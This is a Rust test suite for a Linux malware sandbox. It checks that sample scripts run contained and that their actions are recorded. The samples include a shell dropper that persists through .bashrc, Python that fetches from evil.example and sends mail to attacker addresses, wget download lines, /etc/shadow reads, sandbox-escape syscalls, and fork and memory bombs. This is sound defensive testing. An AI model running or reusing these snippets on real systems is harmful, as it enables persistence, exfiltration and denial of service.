//! Programs and scripts of Linux, run for real behind real walls: what they do is written down, and nothing of it gets out.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use postern_model::sandbox::{Action, Report};
use postern_sandbox::cell::{CellError, Cells};
use postern_sandbox::job::Job;
use postern_sandbox::limits::Limits;
use support::documents::archive;
use support::{job, names};

/// `None` where no cell, or none for programs, can be had.
async fn run_as(job: Job, content: &[u8]) -> Option<Report> {
    match Cells::new(PathBuf::from(env!("CARGO_BIN_EXE_postern-cell"))).run(&job, content, None).await {
        Ok(report) => match report.timeline.iter().find(|e| e.text == "not run") {
            Some(event) if event.detail.contains("nothing that runs") || event.detail.contains("not permitted") => {
                println!("skipped: {}", event.detail);
                None
            }
            Some(event) => panic!("{}", event.detail),
            None => Some(report),
        },
        Err(CellError::Walls(why)) if why.contains("EPERM") || why.contains("ENOSPC") => {
            println!("skipped: {why}");
            None
        }
        Err(error) => panic!("{error}"),
    }
}

async fn run(name: &str, content: &str) -> Option<Report> {
    run_as(job(name), content.as_bytes()).await
}

fn did(report: &Report, action: Action, text: &str) -> bool {
    report.timeline.iter().any(|e| e.action == action && e.text.contains(text))
}

/// What it printed.
fn printed(report: &Report) -> String {
    report.timeline.iter().find(|e| e.action == Action::Show).map(|e| e.text.clone()).unwrap_or_default()
}

#[tokio::test]
async fn a_script_that_ends_at_once_is_quick() {
    let Some(_) = run("quick.sh", "#!/bin/sh\nexit 0\n").await else { return };
    let mut best = Duration::MAX;
    for _ in 0..5 {
        let began = Instant::now();
        let report = run("quick.sh", "#!/bin/sh\nexit 0\n").await.unwrap();
        best = best.min(began.elapsed());
        assert_eq!(report.timeline.iter().map(|e| e.action).collect::<Vec<_>>(), [Action::Begin, Action::End], "{report:#?}");
        assert_eq!(report.timeline[1].detail, "code 0");
    }
    println!("{best:?} at best");
}

#[tokio::test]
async fn a_dropper_in_shell_shows_all_that_it_does() {
    let script = "#!/bin/sh\ncd /tmp\nprintf '#!/bin/sh\\necho hi\\n' > /tmp/stage2\nchmod +x /tmp/stage2\n/tmp/stage2\n\
                  echo '* * * * * /tmp/stage2' >> /home/user/.bashrc\nrm -f \"$0\"\n";
    let Some(report) = run_as(job("invoice.zip"), &archive(&[("run.sh", script.as_bytes())], None)).await else { return };
    for (action, text) in [
        (Action::Begin, "/home/user/run.sh"),
        (Action::Write, "/tmp/stage2"),
        (Action::Start, "/tmp/stage2"),
        (Action::Write, "/home/user/.bashrc"),
        (Action::Move, "/home/user/run.sh"),
        (Action::Show, "hi"),
    ] {
        assert!(did(&report, action, text), "{action:?} {text}: {:#?}", report.timeline);
    }
    let found = names(&report);
    for name in ["SCRIPT", "NATIVE_STARTS", "NATIVE_WRITES", "NATIVE_DROPPER", "NATIVE_PERSISTS", "NATIVE_REMOVES_ITSELF"] {
        assert!(found.contains(&name), "{name}: {found:?}");
    }
    assert!(report.findings.iter().filter(|f| f.name.name().starts_with("NATIVE")).all(|f| f.part == 1), "{:?}", report.findings);
}

#[tokio::test]
async fn the_network_answers_and_leads_nowhere() {
    let script = "import socket, urllib.request\n\
                  print(urllib.request.urlopen('http://evil.example/a.sh', timeout=3).read().decode())\n\
                  print(socket.create_connection(('203.0.113.9', 4444), 3).send(b'hello from inside'))\n\
                  import smtplib; s = smtplib.SMTP('mx.example', 25, timeout=3); s.sendmail('a@evil.example', ['b@victim.example'], 'x'); s.quit()";
    let Some(report) = run("loader.py", script).await else { return };
    for (action, text) in [
        (Action::Resolve, "evil.example"),
        (Action::Load, "GET http://evil.example/a.sh"),
        (Action::Connect, "203.0.113.9:4444"),
        (Action::Load, "smtp rcpt TO:<b@victim.example>"),
        (Action::Resolve, "desktop"),
    ] {
        assert!(did(&report, action, text), "{action:?} {text}: {:#?}", report.timeline);
    }
    assert!(printed(&report).contains("exit 0"), "{}", printed(&report));
    assert!(report.timeline.iter().any(|e| e.detail.contains("hello from inside")), "{:#?}", report.timeline);
    assert!(report.contacted().contains(&"evil.example") && names(&report).contains(&"NATIVE_LOADS"));
}

#[tokio::test]
async fn what_is_said_in_tls_is_read() {
    let script = "import smtplib, socket, ssl, urllib.request\n\
                  print(urllib.request.urlopen('https://evil.example/b.sh', timeout=3).read().decode())\n\
                  print(urllib.request.urlopen('https://203.0.113.9:8443/c', timeout=3).read().decode())\n\
                  front = urllib.request.Request('https://cdn.example/', headers={'Host': 'hidden.example'})\n\
                  urllib.request.urlopen(front, timeout=3)\n\
                  ours = ssl.create_default_context()\n\
                  s = ours.wrap_socket(socket.create_connection(('c2.example', 4443), 3), server_hostname='c2.example')\n\
                  s.send(b'hello from inside'); s.close()\n\
                  theirs = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n\
                  try: theirs.wrap_socket(socket.create_connection(('pinned.example', 443), 3), server_hostname='pinned.example')\n\
                  except ssl.SSLError as e: print('not trusted')\n\
                  m = smtplib.SMTP('mx.example', 587, timeout=3); m.starttls(context=ours); m.login('thief@evil.example', 'hunter2')\n\
                  m.sendmail('a@evil.example', ['drop@evil.example'], 'x'); m.quit()\n\
                  m = smtplib.SMTP_SSL('mx.example', 465, timeout=3, context=ours); m.sendmail('b@evil.example', ['late@evil.example'], 'x'); m.quit()\n";
    let Some(report) = run("loader.py", script).await else { return };
    assert!(printed(&report).contains("exit 0") && printed(&report).contains("not trusted"), "{report:#?}");
    for (action, text) in [
        (Action::Load, "GET https://evil.example/b.sh"),
        (Action::Load, "GET https://203.0.113.9:8443/c"),
        (Action::Load, "smtp AUTH thief@evil.example"),
        (Action::Load, "smtp rcpt TO:<drop@evil.example>"),
        (Action::Load, "smtp rcpt TO:<late@evil.example>"),
    ] {
        assert!(did(&report, action, text), "{action:?} {text}: {:#?}", report.timeline);
    }
    for (text, detail) in [
        ("GET https://hidden.example/", "TLS named cdn.example"),
        ("https://c2.example:4443/", "sent in TLS: hello from inside"),
        ("https://pinned.example/", "TLS came to nothing: received fatal alert"),
    ] {
        assert!(report.timeline.iter().any(|e| e.text == text && e.detail.starts_with(detail)), "{text} {detail}: {:#?}", report.timeline);
    }
    assert!(!format!("{report:?}").contains("hunter2"), "a password is not told");
    assert!(!report.timeline.iter().any(|e| e.action == Action::Read && e.text.contains("/etc/ssl")), "{:#?}", report.timeline);
}

#[tokio::test]
async fn perl_and_programs_run_too() {
    let Some(report) = run("a.pl", "print 'sum: ', 40 + 2, \"\\n\"; open(F, '/etc/shadow') or print \"closed\\n\"; exit 7;").await else {
        return;
    };
    assert!(printed(&report).contains("sum: 42") && printed(&report).contains("closed"), "{:#?}", report.timeline);
    assert_eq!(report.timeline.last().unwrap().detail, "code 7");
    assert!(did(&report, Action::Read, "/etc/shadow"), "{:#?}", report.timeline);
    let program = ["/usr/bin/uname", "/bin/uname"].iter().find_map(|path| std::fs::read(path).ok()).unwrap();
    let report = run_as(job("program"), &program).await.unwrap();
    assert_eq!(printed(&report).trim(), "Linux", "{:#?}", report.timeline);
}

#[tokio::test]
async fn what_is_not_run_is_not() {
    let Some(report) = run("a.sh", "#!/bin/sh\necho hi\n").await else { return };
    assert!(did(&report, Action::Show, "hi"));
    let limits = Limits { programs: Duration::ZERO, ..Limits::default() };
    let report = run_as(Job { limits, ..job("a.sh") }, b"#!/bin/sh\necho hi\n").await.unwrap();
    assert!(report.timeline.is_empty(), "{:#?}", report.timeline);
    let report = run("a.awk", "#!/usr/bin/awk -f\nBEGIN { print }\n").await.unwrap();
    assert!(report.timeline.is_empty(), "{:#?}", report.timeline);
}

/// What content that runs could try. Perl, for it makes any call there is, and is on every Debian.
#[tokio::test]
async fn nothing_gets_out() {
    let Some(_) = run("a.pl", "print 1;").await else { return };
    let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let socket = tempfile::tempdir().unwrap();
    let path = socket.path().join("host.sock");
    let unix = std::os::unix::net::UnixListener::bind(&path).unwrap();
    unix.set_nonblocking(true).unwrap();
    let secret = socket.path().join("secret");
    std::fs::write(&secret, "of this machine").unwrap();
    let tries = [
        ("read a host file", format!("open(F, '{}') and print 'got out'; open(F, '/etc/machine-id') and print 'got out';", secret.display())),
        ("list the host's files", "print 'got out' if -e '/var/lib/dpkg' or -e '/root' or -e '/home/user/../../work/printed/x' or -e '/sys/kernel';".to_owned()),
        ("write into the system", "open(F, '>/usr/bin/evil') and print 'got out'; open(F, '>/etc/passwd') and print 'got out'; open(F, '>/x') and print 'got out';".to_owned()),
        ("change the machine", "open(F, '>/proc/sys/kernel/core_pattern') and print 'got out'; open(F, '>/proc/sysrq-trigger') and print 'got out'; open(F, '>/dev/kmsg') and print 'got out';".to_owned()),
        ("see other processes", "opendir(D, '/proc') and print 'got out'; open(F, '/proc/1/mem') and print 'got out'; print 'got out' if kill(9, 1) && !kill(0, 1);".to_owned()),
        ("reach a host's port", format!("use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in({}, inet_aton('127.0.0.1'))); syswrite(S, 'x'); sleep 1;", host.local_addr().unwrap().port())),
        ("reach a host's socket", format!("use Socket; socket(S, PF_UNIX, SOCK_STREAM, 0); connect(S, sockaddr_un('{}')) and print 'got out';", path.display())),
        ("a raw socket", "socket(S, 2, 3, 1) and print 'got out'; socket(S, 17, 3, 0) and print 'got out'; socket(S, 16, 3, 0) and print 'got out';".to_owned()),
        ("a device", "my $p = '/tmp/d'; print 'got out' if syscall(133, $p, 0x61b0, 0x800) == 0 && open(F, $p);".to_owned()),
        ("become somebody", "print 'got out' if syscall(105, 1000) == 0 && $< == 1000;".to_owned()),
    ];
    for (what, script) in tries {
        let report = run("a.pl", &script).await.unwrap();
        assert_eq!(printed(&report), "", "{what}: {:#?}", report.timeline);
        assert!(report.timeline.last().unwrap().action == Action::End, "{what}: {:#?}", report.timeline);
    }
    assert!(host.accept().is_err() && unix.accept().is_err(), "a host's socket was reached");
    assert!(!Path::new("/usr/bin/evil").exists());
    let calls = [
        ("ptrace", 101, "16, 1, 0, 0"),
        ("mount", 165, "$p, $p, $p, 0, 0"),
        ("unshare", 272, "0x10000000"),
        ("setns", 308, "3, 0"),
        ("keyctl", 250, "0, 0, 0, 0, 0"),
        ("userfaultfd", 323, "1"),
        ("perf_event_open", 298, "0, 0, -1, -1, 0"),
        ("bpf", 321, "0, 0, 0"),
        ("process_vm_readv", 310, "1, 0, 0, 0, 0, 0"),
        ("open_by_handle_at", 304, "0, 0, 0"),
        ("finit_module", 313, "0, 0, 0"),
        ("clone", 56, "0x10000000 | 17, 0, 0, 0, 0"),
    ];
    for (name, number, arguments) in calls {
        let arguments: Vec<String> =
            arguments.split(", ").map(|a| if a.starts_with('$') { a.to_owned() } else { format!("0 + {a}") }).collect();
        let report = run("a.pl", &format!("my $p = '/tmp'; my $x = syscall({number}, {}); print \"returned $x\";", arguments.join(", ")))
            .await
            .unwrap();
        assert!(did(&report, Action::Refused, name) && names(&report).contains(&"NATIVE_ESCAPE"), "{name}: {:#?}", report.timeline);
        assert_eq!(printed(&report), "returned -1", "{name}");
    }
}

#[tokio::test]
async fn bombs_end_in_the_cell() {
    let Some(_) = run("a.pl", "print 1;").await else { return };
    let few = |name: &str| Job { limits: Limits { programs: Duration::from_secs(2), memory: 256 << 20, ..Limits::default() }, ..job(name) };
    let bombs = [
        ("forks", "fork while 1;"),
        ("memory", "my @a; push @a, 'x' x (1 << 20) while 1;"),
        ("memory of many", "for (1..20) { last unless fork } my $a = 'x' x (40 << 20); sleep 5;"),
        (
            "disk",
            "open(F, '>/tmp/big'); print F 'x' x (1 << 20) or last while 1; $i = 0; while (1) { open(G, '>/tmp/f' . $i++) or last } print 'full';",
        ),
        ("time", "1 while 1;"),
        ("events", "for (1..100000) { open(F, '>/tmp/n' . $_); unlink('/tmp/n' . $_) }"),
        ("sleep", "sleep 100;"),
    ];
    for (what, script) in bombs {
        let began = Instant::now();
        let report = run_as(few("bomb.pl"), script.as_bytes()).await.unwrap();
        println!("{what}: {:?}, {:?}", began.elapsed(), report.timeline.last().unwrap());
        assert!(began.elapsed() < Duration::from_secs(8), "{what}: {:?}", began.elapsed());
        assert!(report.is_sound() && !names(&report).contains(&"CELL_BROKEN"), "{what}: {:#?}", report.findings);
    }
}

/// The tree below a program's part, with what is found in it.
fn below(report: &Report, part: u32) -> Vec<String> {
    (0..report.parts.len() as u32).filter(|n| report.parts[*n as usize].inside == Some(part)).map(|n| report.path(n)).collect()
}

#[tokio::test]
async fn what_a_program_writes_is_taken_apart() {
    let packed = data_encoding::HEXLOWER.encode(&archive(&[("run.exe", &support::documents::program())], None));
    let dropped = "new ActiveXObject(\"WScript.Shell\").Run(\"calc.exe\")";
    let script = format!(
        "open(F, '>/tmp/data.zip'); print F pack('H*', '{packed}'); close(F); mkdir '/home/user/a'; \
         open(F, '>/home/user/a/drop.js'); print F '{dropped}'; close(F); \
         open(F, '>/tmp/gone.sh'); print F \"#!/bin/sh\\nwget http://evil.example/x\\n\"; close(F); chmod 0755, '/tmp/gone.sh'; unlink '/tmp/gone.sh'; \
         open(F, '>/tmp/over'); print F 'first'; close(F); open(F, '>/tmp/over'); print F 'second'; close(F); \
         open(F, '>/tmp/empty'); close(F); symlink '/etc/passwd', '/tmp/link'; open(F, '>/tmp/copy'); print F 'second'; close(F);"
    );
    let Some(report) = run_as(job("a.zip"), &archive(&[("drop.pl", script.as_bytes())], None)).await else { return };
    let mut tree = below(&report, 1);
    tree.sort();
    // Of "second" there are two, and one is enough.
    assert_eq!(tree, ["copy", "data.zip", "drop.js", "gone.sh", "over"].map(|name| format!("a.zip/drop.pl/{name}")));
    for (name, place) in [
        ("PROGRAM", "a.zip/drop.pl/data.zip/run.exe"),
        ("SCRIPT_STARTS", "a.zip/drop.pl/drop.js"),
        ("NATIVE_WRITES", "a.zip/drop.pl"),
        // Removed before it was ever started, and started here.
        ("NATIVE_LOADS", "a.zip/drop.pl/gone.sh"),
    ] {
        let is_found = report.findings.iter().any(|f| f.name.name() == name && report.path(f.part) == place);
        // Without wget nothing is loaded.
        assert!(is_found || (name == "NATIVE_LOADS" && !Path::new("/usr/bin/wget").exists()), "{name} {place}: {:#?}", report.findings);
    }
    assert!(report.is_sound());
}

#[tokio::test]
async fn programs_of_programs_end_somewhere() {
    // Each writes another one that differs, which would again.
    let script = "#!/bin/sh\nn=$(($(cat $0 | wc -l)))\ncat $0 > /tmp/next$n.sh\necho \"# $n\" >> /tmp/next$n.sh\nchmod +x /tmp/next$n.sh\n";
    let Some(report) = run("again.sh", script).await else { return };
    let begun = report.timeline.iter().filter(|e| e.action == Action::Begin).count();
    assert!((2..=4).contains(&begun) && report.is_sound(), "{begun}: {:#?}", report.timeline);
}

#[tokio::test]
async fn what_is_written_is_bounded() {
    let Some(_) = run("a.pl", "print 1;").await else { return };
    let many = "for (1..40) { open(F, \">/tmp/f$_\"); print F \"content $_\"; close(F) }";
    let report = run("many.pl", many).await.unwrap();
    assert_eq!(below(&report, 0).len(), 16, "{:#?}", report.parts);
    assert!(report.timeline.iter().any(|e| e.detail.starts_with("not taken apart")), "{:#?}", report.timeline);
    let large = "open(F, '>/tmp/large'); print F 'x' x (3 << 20); close(F); open(F, '>/tmp/small'); print F 'y'; close(F);";
    let report = run("large.pl", large).await.unwrap();
    assert_eq!(below(&report, 0), ["large.pl/small"]);
    assert!(report.timeline.iter().any(|e| e.text == "/tmp/large" && e.detail.starts_with("not taken apart")), "{:#?}", report.timeline);
    // What leads to the machine's own, or to what never ends, is no file that it wrote.
    let links = "symlink '/proc/1/environ', '/tmp/a'; link '/usr/bin/perl', '/tmp/b'; my $p = '/tmp/fifo'; syscall(133, $p, 0 + 0x11ff, 0 + 0); unlink '/tmp/a'; \
                 open(F, '>/tmp/c'); print F 'z'; close(F); unlink '/proc/self/environ'; unlink '/tmp/../etc/passwd'; unlink '/tmp/fifo';";
    let report = run("links.pl", links).await.unwrap();
    assert_eq!(below(&report, 0), ["links.pl/c"], "{:#?}", report.timeline);
}
